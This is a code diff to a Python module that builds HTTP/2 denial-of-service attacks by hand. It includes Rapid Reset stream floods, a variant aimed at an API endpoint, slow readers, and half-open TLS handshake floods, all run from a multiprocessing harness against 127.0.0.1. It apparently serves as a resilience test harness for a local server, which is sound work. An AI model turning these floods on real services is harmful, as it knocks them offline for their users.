@@ -1,5 +1,8 @@
 """HTTP/2 as an attacker speaks it: frames by hand, without flow control and without waiting."""
+import multiprocessing
+import os
 import socket
+import ssl
 import struct
 import time
 
@@ -9,6 +12,7 @@ END_STREAM, END_HEADERS = 1, 4
 INITIAL_WINDOW = 4
 BATCH = 200  # frames, or pairs of them, sent at once
 TURN_SECONDS = 0.002
+NICE = 19
 
 
 def frame(kind, flags=0, stream=0, payload=b""):
@@ -46,7 +50,6 @@ class Attack:
     """What one connection sends: `opening` first, then what `more` gives, again and again. The
     class's attributes say how it behaves; `stream` is the next one's number."""
 
-    secure = False
     reads = True
     opening = OPENING
 
@@ -64,6 +67,16 @@ class Attack:
 class RapidReset(Attack):
     def more(self):
         return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) +
+                        frame(RESET, 0, stream, b"\0\0\0\x08")
+                        for stream in (self.next_stream() for _ in range(BATCH)))
+
+
+class RapidResetCalls(Attack):
+    """The same with requests that the service would have to answer."""
+
+    def more(self):
+        call = head(b"/api/offline/config", more=literal(b"authorization", b"Bearer any"))
+        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, call) +
                         frame(RESET, 0, stream, b"\0\0\0\x08")
                         for stream in (self.next_stream() for _ in range(BATCH)))
 
@@ -159,8 +172,7 @@ class SlowReader(Attack):
 
 
 class HalfOpen(Attack):
-    """A TLS handshake that is begun and never ended; the connection is left, another made."""
-    secure = True
+    """A TLS handshake that is begun and never ended."""
     opening = b"\x16\x03\x01\x02\x00\x01"
 
 
@@ -172,29 +184,44 @@ class SlowHead(Attack):
         return b"x"
 
 
+def _context():
+    """TLS that trusts anybody and asks for HTTP/2."""
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    return context
+
+
 class _Slot:
     """One connection of a flood, made anew whenever it ends."""
 
-    def __init__(self, kind, port):
-        self.kind, self.port = kind, port
+    def __init__(self, kind, port, context):
+        self.kind, self.port, self.context = kind, port, context
         self.socket = self.attack = None
         self.waiting = b""
         self.opened = 0
 
+    def _open(self):
+        self.opened += 1
+        self.socket = socket.create_connection(("127.0.0.1", self.port), 5)
+        if self.context:
+            self.socket = self.context.wrap_socket(self.socket)
+        self.socket.setblocking(False)
+        self.attack = self.kind()
+        self.waiting = self.attack.opening
+
     def turn(self):
         try:
             if self.socket is None:
-                self.socket = socket.create_connection(("127.0.0.1", self.port), 5)
-                self.socket.setblocking(False)
-                self.attack, self.opened = self.kind(), self.opened + 1
-                self.waiting = self.attack.opening
+                self._open()
             if self.attack.reads:
                 self._read()
             if not self.waiting:
                 self.waiting = self.attack.more()
             if self.waiting:
                 self.waiting = self.waiting[self.socket.send(self.waiting):]
-        except BlockingIOError:
+        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
             pass
         except OSError:
             self.close()
@@ -204,7 +231,7 @@ class _Slot:
             while True:
                 if not self.socket.recv(65536):
                     raise ConnectionResetError
-        except BlockingIOError:
+        except (BlockingIOError, ssl.SSLWantReadError):
             pass
 
     def close(self):
@@ -213,13 +240,58 @@ class _Slot:
         self.socket = None
 
 
-def flood(kind, port, connections, seconds):
-    """Attacks on so many connections at once, for so long."""
-    slots = [_Slot(kind, port) for _ in range(connections)]
-    deadline = time.monotonic() + seconds
-    while time.monotonic() < deadline:
+class Flood:
+    """An attack on so many connections at once, for so long, from a process of its own. It gets
+    the processor's time that nobody else wants, as if it came from a machine of its own."""
+
+    def __init__(self, kind, port, connections, seconds, secure=False):
+        self._opened = multiprocessing.Value("q", 0)
+        self._process = multiprocessing.Process(
+            target=self._run, args=(kind, port, connections, seconds, secure))
+        self._process.start()
+
+    def _run(self, kind, port, connections, seconds, secure):
+        os.nice(NICE)
+        context = _context() if secure else None
+        slots = [_Slot(kind, port, context) for _ in range(connections)]
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline:
+            for slot in slots:
+                slot.turn()
+            time.sleep(TURN_SECONDS)
         for slot in slots:
-            slot.turn()
-        time.sleep(TURN_SECONDS)
-    for slot in slots:
-        slot.close()
+            slot.close()
+        self._opened.value = sum(slot.opened for slot in slots)
+
+    def is_running(self):
+        return self._process.is_alive()
+
+    def end(self):
+        """Waits for the end; the connections that it took."""
+        self._process.join()
+        assert self._process.exitcode == 0
+        return self._opened.value
+
+
+class Idle(Flood):
+    """No attack: a process that only keeps the processor as busy as one may."""
+
+    def _run(self, kind, port, connections, seconds, secure):
+        os.nice(NICE)
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline:
+            pass
+
+
+class HalfOpenFlood(Flood):
+    """Handshakes that are all begun, and none is ended."""
+
+    def _run(self, kind, port, connections, seconds, secure):
+        os.nice(NICE)
+        clients = []
+        for _ in range(connections):
+            client = socket.create_connection(("127.0.0.1", port), 30)
+            client.sendall(kind.opening)
+            clients.append(client)
+        time.sleep(seconds)
+        self._opened.value = connections
